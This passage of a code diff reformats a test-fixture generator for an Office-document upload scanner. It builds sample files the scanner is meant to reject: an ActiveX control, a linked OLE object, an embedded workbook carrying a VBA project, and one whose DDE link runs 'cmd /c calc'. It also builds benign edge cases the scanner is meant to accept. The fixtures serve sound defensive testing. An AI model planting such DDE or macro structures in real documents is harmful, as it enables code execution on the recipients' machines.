+        defaults: [['bin', CT.activeXBinary]],
+        overrides: [['/ppt/activeX/activeX1.xml', CT.activeX]],
+        parts: [
+          [
+            'ppt/activeX/activeX1.xml',
+            `${XML}<ax:ocx xmlns:ax="${NS.ax}" xmlns:r="${NS.r}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>`,
+          ],
+          [
+            'ppt/activeX/_rels/activeX1.xml.rels',
+            relationships([{ id: 'rId1', type: MS_REL('activeXControlBinary'), target: 'activeX1.bin' }]),
+          ],
+          ['ppt/activeX/activeX1.bin', cfb(2048)],
         ],
-        ['ppt/activeX/_rels/activeX1.xml.rels', relationships([{ id: 'rId1', type: MS_REL('activeXControlBinary'), target: 'activeX1.bin' }])],
-        ['ppt/activeX/activeX1.bin', cfb(2048)],
-      ],
-    })));
+      }),
+    ),
+  );
   // 33. A linked OLE object on a slide.
-  add('pptx-ole-external-link', 'pptx', REASON.oleOrExternal,
-    buildZip(pptx({
-      shapes:
-        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="2" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>' +
-        '<p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>' +
-        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">' +
-        '<p:oleObj name="Worksheet" r:id="rId1" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj>' +
-        '</a:graphicData></a:graphic></p:graphicFrame>',
-      slideRels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }],
-    })));
+  add(
+    'pptx-ole-external-link',
+    'pptx',
+    REASON.oleOrExternal,
+    buildZip(
+      pptx({
+        shapes:
+          '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="2" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>' +
+          '<p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>' +
+          '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">' +
+          '<p:oleObj name="Worksheet" r:id="rId1" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj>' +
+          '</a:graphicData></a:graphic></p:graphicFrame>',
+        slideRels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }],
+      }),
+    ),
+  );
 
   // An honest-looking chart whose embedded workbook carries a VBA project: the package inside is
   // judged by the same rules as the upload, whatever the outer content types call it.
-  add('embedded-workbook-with-macros', 'docx', REASON.macro,
-    buildZip(docx({
-      body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
-      rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
-      defaults: [['xlsx', CT.xlsx]],
-      overrides: [['/word/charts/chart1.xml', CT.chart]],
-      parts: [
-        ['word/charts/chart1.xml', CHART],
-        ['word/charts/_rels/chart1.xml.rels', relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }])],
-        ['word/embeddings/Microsoft_Excel_Worksheet.xlsx',
-          buildZip(xlsx({ defaults: [['bin', CT.octet]], rels: [{ id: 'rId9', type: MS_REL('vbaProject'), target: 'payload.bin' }], parts: [['xl/payload.bin', noise(1024)]] }))],
-      ],
-    })));
+  add(
+    'embedded-workbook-with-macros',
+    'docx',
+    REASON.macro,
+    buildZip(
+      docx({
+        body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
+        rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
+        defaults: [['xlsx', CT.xlsx]],
+        overrides: [['/word/charts/chart1.xml', CT.chart]],
+        parts: [
+          ['word/charts/chart1.xml', CHART],
+          [
+            'word/charts/_rels/chart1.xml.rels',
+            relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
+          ],
+          [
+            'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
+            buildZip(
+              xlsx({
+                defaults: [['bin', CT.octet]],
+                rels: [{ id: 'rId9', type: MS_REL('vbaProject'), target: 'payload.bin' }],
+                parts: [['xl/payload.bin', noise(1024)]],
+              }),
+            ),
+          ],
+        ],
+      }),
+    ),
+  );
   // The same with a DDE link in the embedded workbook.
-  add('embedded-workbook-with-dde', 'docx', /DDE/,
-    buildZip(docx({
-      body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
-      rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
-      defaults: [['xlsx', CT.xlsx]],
-      overrides: [['/word/charts/chart1.xml', CT.chart]],
-      parts: [
-        ['word/charts/chart1.xml', CHART],
-        ['word/charts/_rels/chart1.xml.rels', relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }])],
-        ['word/embeddings/Microsoft_Excel_Worksheet.xlsx',
-          buildZip(xlsx({
-            workbook: workbook(SHEET1, '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
-            overrides: [['/xl/externalLinks/externalLink1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml']],
-            rels: [{ id: 'rId2', type: REL('externalLink'), target: 'externalLinks/externalLink1.xml' }],
-            parts: [['xl/externalLinks/externalLink1.xml', `${XML}<externalLink xmlns="${NS.x}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>`]],
-          }))],
-      ],
-    })));
+  add(
+    'embedded-workbook-with-dde',
+    'docx',
+    /DDE/,
+    buildZip(
+      docx({
+        body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
+        rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
+        defaults: [['xlsx', CT.xlsx]],
+        overrides: [['/word/charts/chart1.xml', CT.chart]],
+        parts: [
+          ['word/charts/chart1.xml', CHART],
+          [
+            'word/charts/_rels/chart1.xml.rels',
+            relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
+          ],
+          [
+            'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
+            buildZip(
+              xlsx({
+                workbook: workbook(SHEET1, '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
+                overrides: [
+                  ['/xl/externalLinks/externalLink1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'],
+                ],
+                rels: [{ id: 'rId2', type: REL('externalLink'), target: 'externalLinks/externalLink1.xml' }],
+                parts: [
+                  [
+                    'xl/externalLinks/externalLink1.xml',
+                    `${XML}<externalLink xmlns="${NS.x}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>`,
+                  ],
+                ],
+              }),
+            ),
+          ],
+        ],
+      }),
+    ),
+  );
 
   return samples;
 }
@@ -774,11 +1064,15 @@ export async function makeHonestTrickySamples(): Promise<HonestSample[]> {
   const honest = (name: string, bytes: Uint8Array): HonestSample => ({ name, filename: `${name}.docx`, bytes });
   return [
     // The one kind of external target allowed: a hyperlink.
-    honest('external-hyperlink',
-      buildZip(docx({
-        body: '<w:p><w:hyperlink r:id="rId1" w:history="1"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>',
-        rels: [{ id: 'rId1', type: REL('hyperlink'), target: 'https://example.com/', external: true }],
-      }))),
+    honest(
+      'external-hyperlink',
+      buildZip(
+        docx({
+          body: '<w:p><w:hyperlink r:id="rId1" w:history="1"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>',
+          rels: [{ id: 'rId1', type: REL('hyperlink'), target: 'https://example.com/', external: true }],
+        }),
+      ),
+    ),
     // As streaming writers produce them: zeros in the local headers, the truth in descriptors after the data.
     honest('data-descriptors', buildZip(docx().map((e): ZipEntry => ({ ...e, dataDescriptor: true })))),
     // Nothing compressed.
@@ -786,30 +1080,41 @@ export async function makeHonestTrickySamples(): Promise<HonestSample[]> {
     // A UTF-8 byte order mark before the XML declaration: still UTF-8.
     honest('utf8-bom', buildZip(docx({ document: concat([new Uint8Array([0xef, 0xbb, 0xbf]), utf8(wordDocument(para('With a BOM')))]) }))),
     // A chart as Word embeds one: its data in a whole .xlsx package inside the .docx.
-    honest('embedded-chart',
-      buildZip(docx({
-        body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
-        rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
-        defaults: [['xlsx', CT.xlsx]],
-        overrides: [['/word/charts/chart1.xml', CT.chart]],
-        parts: [
-          ['word/charts/chart1.xml', CHART],
-          ['word/charts/_rels/chart1.xml.rels', relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }])],
-          ['word/embeddings/Microsoft_Excel_Worksheet.xlsx', buildZip(xlsx())],
-        ],
-      }))),
+    honest(
+      'embedded-chart',
+      buildZip(
+        docx({
+          body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
+          rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
+          defaults: [['xlsx', CT.xlsx]],
+          overrides: [['/word/charts/chart1.xml', CT.chart]],
+          parts: [
+            ['word/charts/chart1.xml', CHART],
+            [
+              'word/charts/_rels/chart1.xml.rels',
+              relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
+            ],
+            ['word/embeddings/Microsoft_Excel_Worksheet.xlsx', buildZip(xlsx())],
+          ],
+        }),
+      ),
+    ),
     // A part name is a URI: a space is %20 in the ZIP name and in the target alike (not an unreserved character).
-    honest('percent-encoded-name',
-      buildZip(docx({
-        body: inlineDrawing(
-          'Picture 1',
-          `<a:graphicData uri="${NS.pic}"><pic:pic xmlns:pic="${NS.pic}"><pic:nvPicPr><pic:cNvPr id="0" name="image one.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
-            '<pic:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
-            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>',
-        ),
-        rels: [{ id: 'rId1', type: REL('image'), target: 'media/image%20one.png' }],
-        defaults: [['png', CT.png]],
-        parts: [['word/media/image%20one.png', PNG]],
-      }))),
+    honest(
+      'percent-encoded-name',
+      buildZip(
+        docx({
+          body: inlineDrawing(
+            'Picture 1',
+            `<a:graphicData uri="${NS.pic}"><pic:pic xmlns:pic="${NS.pic}"><pic:nvPicPr><pic:cNvPr id="0" name="image one.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
+              '<pic:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
+              '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>',
+          ),
+          rels: [{ id: 'rId1', type: REL('image'), target: 'media/image%20one.png' }],
+          defaults: [['png', CT.png]],
+          parts: [['word/media/image%20one.png', PNG]],
+        }),
+      ),
+    ),
   ];
 }
